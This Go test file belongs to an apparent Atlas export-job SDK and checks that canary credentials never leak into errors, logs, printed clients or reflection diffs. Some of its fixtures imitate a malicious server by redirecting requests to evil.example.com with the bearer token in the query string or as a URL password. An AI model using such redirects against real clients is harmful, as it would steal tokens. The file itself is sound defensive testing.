package atlas_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"iter"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/oauth2"

	"github.com/atlas-exports/atlas"
	"github.com/atlas-exports/atlas/atlastest"
)

// Canary credentials: distinctive strings that no text the SDK produces may hold. The
// secret has characters that query-escaping changes, so its escaped form differs too.
const (
	canaryPublicKey    = "canarypublickey"
	canaryPrivateKey   = "CANARY-PRIVATE-KEY-d41f8e"
	canaryClientID     = "mdb_sa_id_canary"
	canaryClientSecret = "CANARY/CLIENT+SECRET=7b2c90"
	canaryAccessToken  = "CANARY-ACCESS-TOKEN-5e17a3"
)

// canaries are the canary credentials in every form the SDK sends them or a printer could
// show them: as is, query-escaped (a form), base64 of id:secret both raw and escaped (HTTP
// Basic), and hex (%x).
func canaries(extra ...string) []string {
	forms := []string{
		base64.StdEncoding.EncodeToString([]byte(canaryClientID + ":" + canaryClientSecret)),
		base64.StdEncoding.EncodeToString([]byte(url.QueryEscape(canaryClientID) + ":" + url.QueryEscape(canaryClientSecret))),
	}
	for _, c := range append([]string{canaryPrivateKey, canaryClientSecret, canaryAccessToken}, extra...) {
		forms = append(forms, c, url.QueryEscape(c), hex.EncodeToString([]byte(c)))
	}
	return forms
}

// assertNoCanary fails for every canary form in text, granted tokens given as extra.
func assertNoCanary(t *testing.T, text string, extra ...string) {
	t.Helper()
	for _, c := range canaries(extra...) {
		if strings.Contains(text, c) {
			t.Errorf("a credential (%.12s…) leaked:\n%s", c, text)
		}
	}
}

// authMode is one way a client authenticates, with canary credentials.
type authMode struct {
	name   string
	option atlas.Option
	extra  []atlas.Option // what else the mode needs
}

func authModes() []authMode {
	return []authMode{
		{"access token", atlas.WithAccessToken(canaryAccessToken), nil},
		{"token source", atlas.WithTokenSource(oauth2.StaticTokenSource(&oauth2.Token{AccessToken: canaryAccessToken})), nil},
		{"service account", atlas.WithServiceAccount(canaryClientID, canaryClientSecret), nil},
		{"digest", atlas.WithDigest(canaryPublicKey, canaryPrivateKey), nil},
	}
}

// front is a server that misbehaves in front of the fake. The token endpoint, and requests
// without credentials (a digest client's first), go to the fake, which grants real tokens
// and sends real challenges for the canary credentials; grant, when set, replaces the token
// endpoint. Every request that carries a credential goes to api.
type front struct {
	*httptest.Server
	mu      sync.Mutex
	bearers []string // every bearer token that reached the front: credentials too
}

func newFront(t *testing.T, grant, api http.HandlerFunc) *front {
	t.Helper()
	fake := atlastest.NewServer(atlastest.WithAPIKey(canaryPublicKey, canaryPrivateKey), atlastest.WithServiceAccount(canaryClientID, canaryClientSecret))
	t.Cleanup(fake.Close)
	target, err := url.Parse(fake.URL)
	require.NoError(t, err)
	proxy := httputil.NewSingleHostReverseProxy(target)
	transport := &http.Transport{}
	proxy.Transport = transport
	f := &front{}
	f.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		auth := r.Header.Get("Authorization")
		if tok, ok := strings.CutPrefix(auth, "Bearer "); ok {
			f.mu.Lock()
			f.bearers = append(f.bearers, tok)
			f.mu.Unlock()
		}
		switch {
		case r.URL.Path == "/api/oauth/token" && grant != nil:
			grant(w, r)
		case r.URL.Path == "/api/oauth/token" || auth == "":
			proxy.ServeHTTP(w, r)
		default:
			api(w, r)
		}
	}))
	t.Cleanup(f.Close)
	t.Cleanup(transport.CloseIdleConnections)
	return f
}

// tokens returns the bearer tokens that reached the front.
func (f *front) tokens() []string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]string(nil), f.bearers...)
}

// echo is what a careless server repeats: every credential the request carried, in the
// header and decoded.
func echo(r *http.Request) string {
	s := "Authorization: " + r.Header.Get("Authorization")
	if id, pw, ok := r.BasicAuth(); ok {
		s += " client " + id + " secret " + pw
	}
	return s
}

// bearerOf is the token a request carried, or the whole Authorization header.
func bearerOf(r *http.Request) string {
	auth := r.Header.Get("Authorization")
	if tok, ok := strings.CutPrefix(auth, "Bearer "); ok {
		return tok
	}
	return auth
}

func writeDoc(w http.ResponseWriter, status int, contentType, body string) {
	w.Header().Set("Content-Type", contentType)
	w.WriteHeader(status)
	_, _ = io.WriteString(w, body)
}

// leakCase is one error path: the token endpoint and API it runs against (nil: the fake's
// grant, or an API that must not be reached) and the call that fails.
type leakCase struct {
	grant, api http.HandlerFunc
	call       func(*atlas.Client) (bool, error) // reports whether a result came back
	grantOnly  bool                              // the path exists for the service account only
}

func getJobWith(ctx context.Context) func(*atlas.Client) (bool, error) {
	return func(c *atlas.Client) (bool, error) {
		job, err := c.Exports.Get(ctx, testGroupID, testCluster, testExportID)
		return job != nil, err
	}
}

// leakCases builds every error path afresh for one subtest.
func leakCases(t *testing.T) map[string]leakCase {
	apiError := func(status int, code string, header ...string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			for i := 0; i+1 < len(header); i += 2 {
				w.Header().Set(header[i], header[i+1])
			}
			e := strconv.Quote(echo(r))
			writeDoc(w, status, "application/json", fmt.Sprintf(`{"error":%d,"errorCode":%q,"reason":"r","detail":"(example) %s",
				"parameters":[%s,{"auth":[%s]},{%s:1}],"badRequestDetail":{"fields":[{"field":%s,"description":%s}]}}`,
				status, code, strings.Trim(e, `"`), e, e, e, e, e))
		}
	}
	raw := func(status int, contentType, body string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			writeDoc(w, status, contentType, strings.ReplaceAll(body, "ECHO", echo(r)))
		}
	}
	redirect := func(status int, location func(r *http.Request) string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Location", location(r))
			w.WriteHeader(status)
		}
	}
	cancelled, cancel := context.WithCancel(context.Background())
	t.Cleanup(cancel)
	cancelAndWait := func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.Copy(io.Discard, r.Body) // the server notices a closed connection once the body is read
		cancel()
		<-r.Context().Done()
	}
	done, stop := context.WithCancel(context.Background())
	stop()
	bg := context.Background()
	return map[string]leakCase{
		"swapped arguments": {call: func(c *atlas.Client) (bool, error) {
			job, err := c.Exports.Get(bg, canaryClientSecret, canaryPrivateKey, canaryAccessToken)
			return job != nil, err
		}},
		"bad cluster": {call: func(c *atlas.Client) (bool, error) {
			job, err := c.Exports.Get(bg, testGroupID, "a "+canaryPrivateKey, testExportID)
			return job != nil, err
		}},
		"bad create": {call: func(c *atlas.Client) (bool, error) {
			job, err := c.Exports.Create(bg, testGroupID, testCluster, &atlas.CreateExportJobRequest{SnapshotID: canaryAccessToken, ExportBucketID: canaryClientSecret})
			return job != nil, err
		}},
		"401":        {api: apiError(401, "NOT_ORG_GROUP_CREATOR")},
		"403":        {api: apiError(403, "CANNOT_CHANGE_GROUP_NAME")},
		"404":        {api: apiError(404, "RESOURCE_NOT_FOUND")},
		"400":        {api: apiError(400, "VALIDATION_ERROR")},
		"429":        {api: apiError(429, "RATE_LIMITED", "Retry-After", "3600", "RateLimit-Limit", "100", "RateLimit-Remaining", "0")},
		"500":        {api: apiError(500, "UNEXPECTED_ERROR")},
		"html 502":   {api: raw(502, "text/html", "<html><body><h1>502 Bad Gateway</h1><pre>ECHO</pre></body></html>")},
		"text 401":   {api: raw(401, "text/plain", "ECHO")},
		"wrong type": {api: raw(200, atlas.MediaType, `{"id": "ECHO", "state": 7}`)},
		"cut short":  {api: raw(200, atlas.MediaType, `{"id": "ECHO`)},
		"not JSON":   {api: raw(200, atlas.MediaType, "ECHO")},
		"JSON null":  {api: raw(200, atlas.MediaType, "null")},
		"another job": {api: func(w http.ResponseWriter, r *http.Request) {
			writeDoc(w, 200, atlas.MediaType, `{"id":`+strconv.Quote(bearerOf(r))+`}`)
		}},
		"createdAt": {api: func(w http.ResponseWriter, r *http.Request) {
			writeDoc(w, 200, atlas.MediaType, `{"id":"`+testExportID+`","createdAt":`+strconv.Quote(bearerOf(r))+`}`)
		}},
		"redirect": {api: redirect(307, func(*http.Request) string { return "/elsewhere" })},
		"token in query": {api: redirect(302, func(r *http.Request) string {
			return "https://evil.example.com/x?access_token=" + url.QueryEscape(bearerOf(r))
		})},
		"token as password": {api: redirect(302, func(r *http.Request) string {
			return "https://user:" + url.PathEscape(bearerOf(r)) + "@evil.example.com/x"
		})},
		"hang up":   {api: dropConnection},
		"cancelled": {api: cancelAndWait, call: getJobWith(cancelled)},
		"done":      {call: getJobWith(done)},
		"too large": {api: func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Length", strconv.Itoa(64<<20))
			_, _ = io.WriteString(w, `{"id":"`+echo(r))
		}},

		"grant OAuth error": {grantOnly: true, grant: func(w http.ResponseWriter, r *http.Request) {
			writeDoc(w, 401, "application/json", fmt.Sprintf(`{"error":"invalid_client","error_description":%q,"error_uri":%q}`, "bad "+echo(r), "https://x/"+echo(r)))
		}},
		"grant API error": {grantOnly: true, grant: apiError(401, "INVALID_CLIENT")},
		"grant form error": {grantOnly: true, grant: func(w http.ResponseWriter, r *http.Request) {
			writeDoc(w, 400, "application/x-www-form-urlencoded", url.Values{"error": {"invalid_client"}, "error_description": {echo(r)}}.Encode())
		}},
		"grant error in a 200": {grantOnly: true, grant: raw(200, "application/json", `{"error":"ECHO"}`)},
		"grant without token":  {grantOnly: true, grant: raw(200, "application/json", `{"token_type":"Bearer","note":"ECHO"}`)},
		"grant html 500":       {grantOnly: true, grant: raw(500, "text/html", "<pre>ECHO</pre>")},
		"grant not JSON":       {grantOnly: true, grant: raw(200, "application/json", "ECHO")},
		"grant 429":            {grantOnly: true, grant: apiError(429, "RATE_LIMITED", "Retry-After", "3600")},
		"grant redirect": {grantOnly: true, grant: redirect(308, func(r *http.Request) string {
			_, pw, _ := r.BasicAuth()
			return "/api/oauth/elsewhere?client_secret=" + url.QueryEscape(pw)
		})},
		"grant hang up":   {grantOnly: true, grant: dropConnection},
		"grant cancelled": {grantOnly: true, grant: cancelAndWait, call: getJobWith(cancelled)},
	}
}

// TestNoCredentialInAnyErrorPath runs every error path in every auth mode, and searches every
// text the SDK produces for the credentials: the error in every fmt form, each error it
// wraps, the APIError's fields, the Client printed, the debug log, and any panic's message.
func TestNoCredentialInAnyErrorPath(t *testing.T) {
	t.Parallel() // slow under -race, and shares nothing with other tests
	for _, mode := range authModes() {
		for name, tc := range leakCases(t) {
			if tc.grantOnly && mode.name != "service account" {
				continue
			}
			t.Run(mode.name+"/"+name, func(t *testing.T) {
				tc := leakCases(t)[name] // this subtest's own contexts and handlers
				api := tc.api
				if api == nil {
					api = func(w http.ResponseWriter, r *http.Request) { t.Errorf("%s reached the API", r.URL) }
				}
				srv := newFront(t, tc.grant, api)
				var logs bytes.Buffer
				c, err := atlas.NewClient(atlas.WithBaseURL(srv.URL), mode.option, debugLog(&logs),
					atlas.WithRetry(atlas.RetryPolicy{MaxAttempts: 2, MinBackoff: time.Nanosecond, MaxBackoff: time.Nanosecond}))
				require.NoError(t, err)
				// A grant outlives the caller that started it (it runs under the client's
				// context): Close ends one that a handler holds, before the servers close, rather
				// than the attempt timeout a minute later.
				t.Cleanup(func() {
					ctx, cancel := context.WithTimeout(context.Background(), time.Second)
					defer cancel()
					_ = c.Close(ctx)
				})
				call := tc.call
				if call == nil {
					call = getJobWith(context.Background())
				}
				var texts []string
				var got bool
				require.NotPanics(t, func() { got, err = call(c) })
				require.Error(t, err)
				require.False(t, got, "a result with an error")
				for _, verb := range []string{"%v", "%+v", "%#v", "%s", "%q", "%x"} {
					texts = append(texts, fmt.Sprintf(verb, err), fmt.Sprintf(verb, c))
				}
				for e := range errorTree(err) {
					texts = append(texts, e.Error(), fmt.Sprintf("%#v", e), fmt.Sprintf("%+v", e))
				}
				var apiErr *atlas.APIError
				if errors.As(err, &apiErr) {
					texts = append(texts, fmt.Sprintf("%#v", *apiErr), string(apiErr.Body), fmt.Sprintf("%#v", apiErr.Parameters))
				}
				if name == "token in query" || name == "token as password" {
					assert.Contains(t, err.Error(), "evil.example.com/x", "the redirect's target is shown, redacted")
				}
				for _, text := range append(texts, logs.String()) {
					assertNoCanary(t, text, srv.tokens()...)
				}
			})
		}
	}
}

// errorTree yields err and every error it wraps, through Unwrap() error and Unwrap() []error.
func errorTree(err error) iter.Seq[error] {
	return func(yield func(error) bool) {
		var walk func(error) bool
		walk = func(e error) bool {
			if e == nil {
				return true
			}
			if !yield(e) {
				return false
			}
			switch u := e.(type) {
			case interface{ Unwrap() error }:
				return walk(u.Unwrap())
			case interface{ Unwrap() []error }:
				for _, e := range u.Unwrap() {
					if !walk(e) {
						return false
					}
				}
			}
			return true
		}
		walk(err)
	}
}

// roundTripFunc is an http.RoundTripper made of a func.
type roundTripFunc func(*http.Request) (*http.Response, error)

func (f roundTripFunc) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }

// failureLog is an assert.TestingT that keeps the failure messages instead of failing.
type failureLog struct{ strings.Builder }

func (f *failureLog) Errorf(format string, args ...any) { fmt.Fprintf(f, format, args...) }

// TestReflectionSeesNoCredential compares two clients that differ only in their credentials
// with testify, whose diff walks every field, unexported ones included (spew, with the
// clients' Format ignored), after each has used its credential: a service account holds its
// granted token, a digest client its challenge.
func TestReflectionSeesNoCredential(t *testing.T) {
	t.Parallel()
	for _, mode := range authModes() {
		t.Run(mode.name, func(t *testing.T) {
			srv := newFront(t, nil, func(w http.ResponseWriter, r *http.Request) { serveJob(w, r) })
			// The clients share a transport that reflection cannot enter: its connections'
			// goroutines would race with the walk, and it holds no credential.
			shared := &http.Transport{}
			t.Cleanup(shared.CloseIdleConnections)
			hc := atlas.WithHTTPClient(&http.Client{Transport: roundTripFunc(shared.RoundTrip)})
			client := func(opt atlas.Option) *atlas.Client {
				c, err := atlas.NewClient(atlas.WithBaseURL(srv.URL), opt, hc)
				require.NoError(t, err)
				_, err = c.Exports.Get(t.Context(), testGroupID, testCluster, testExportID)
				require.NoError(t, err)
				return c
			}
			c1 := client(mode.option)
			other := strings.NewReplacer("CANARY", "OTHER", "canary", "other")
			var c2 *atlas.Client
			switch mode.name {
			case "access token":
				c2 = client(atlas.WithAccessToken(other.Replace(canaryAccessToken)))
			case "token source":
				c2 = client(atlas.WithTokenSource(oauth2.StaticTokenSource(&oauth2.Token{AccessToken: other.Replace(canaryAccessToken)})))
			case "service account":
				c2 = c1 // the fake knows one account; a second grant gives another token
				c1 = client(mode.option)
			case "digest":
				c2 = client(atlas.WithDigest(canaryPublicKey, other.Replace(canaryPrivateKey)))
			}
			var diff failureLog
			assert.False(t, assert.Equal(&diff, c1, c2), "the clients differ")
			assert.NotEmpty(t, diff.String())
			var fields failureLog
			assert.Equal(&fields, c1.Exports, c2.Exports) // pointers: a service holds a mutex
			secrets := append(srv.tokens(), other.Replace(canaryAccessToken), other.Replace(canaryPrivateKey))
			for _, text := range []string{diff.String(), fields.String(), fmt.Sprintf("%#v", c1), fmt.Sprintf("%#v", c1.Exports)} {
				assertNoCanary(t, text, secrets...)
			}
		})
	}
}

func TestClientPrintsNoCredential(t *testing.T) {
	t.Parallel()
	for _, mode := range authModes() {
		t.Run(mode.name, func(t *testing.T) {
			c, err := atlas.NewClient(atlas.WithBaseURL("http://127.0.0.1:1"), mode.option)
			require.NoError(t, err)
			want := "atlas.Client{base: http://127.0.0.1:1, auth: " + mode.name + "}"
			for _, verb := range []string{"%v", "%+v", "%#v", "%s", "%q", "%x", "%d"} {
				assert.Equal(t, want, fmt.Sprintf(verb, c), verb)
				for _, v := range []any{[]*atlas.Client{c}, struct{ C *atlas.Client }{c}, c.Exports, c.Snapshots, c.ExportBuckets, mode.option} {
					assertNoCanary(t, fmt.Sprintf(verb, v))
				}
			}
		})
	}
}

// A credential that also occurs inside "[redacted]" (a one-letter token, say) is replaced in
// one pass: the marker is never redacted again into a garble.
func TestRedactionReplacesEachCredentialOnce(t *testing.T) {
	t.Parallel()
	srv := newServer(t)
	srv.Mux.HandleFunc(jobPath, func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, http.StatusBadRequest, `{"error":400,"errorCode":"BAD","detail":"echo e dd"}`)
	})
	c := newClient(t, srv, atlas.WithAccessToken("d"))
	_, err := c.Exports.Get(t.Context(), testGroupID, testCluster, testExportID)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "echo e [redacted][redacted]")
	assert.NotContains(t, err.Error(), "[re[redacted]")
}
